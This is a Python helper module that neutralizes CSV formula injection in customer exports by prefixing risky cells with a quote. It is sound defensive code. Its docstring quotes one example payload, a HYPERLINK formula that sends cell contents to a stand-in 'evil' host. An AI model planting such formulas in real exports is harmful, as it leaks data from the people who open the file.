"""CSV cells a spreadsheet will not run: text starting with ``= + - @`` (or a tab/CR) gets a ``'``.

A key name or a note such as ``=HYPERLINK("https://evil/?"&A1)`` would otherwise be a live
formula when the customer opens the export (OWASP "CSV injection"). Plain numbers, negative
amounts included, stay numbers.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def safe_cell(value: object) -> object:
    """``value``, with a leading ``'`` if it is text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_row(row: Iterable[object]) -> list[object]:
    """Every cell of ``row`` through ``safe_cell``."""
    return [safe_cell(value) for value in row]
